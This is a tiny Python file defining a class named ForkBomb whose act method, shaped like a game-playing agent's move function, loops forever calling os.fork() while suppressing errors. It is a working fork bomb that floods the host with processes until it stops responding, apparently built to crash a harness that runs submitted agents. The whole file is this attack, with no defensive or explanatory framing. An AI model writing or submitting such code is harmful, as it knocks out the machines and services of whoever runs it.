import contextlib
import os


class ForkBomb:
    def act(self, observation, legal_actions, time_left):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
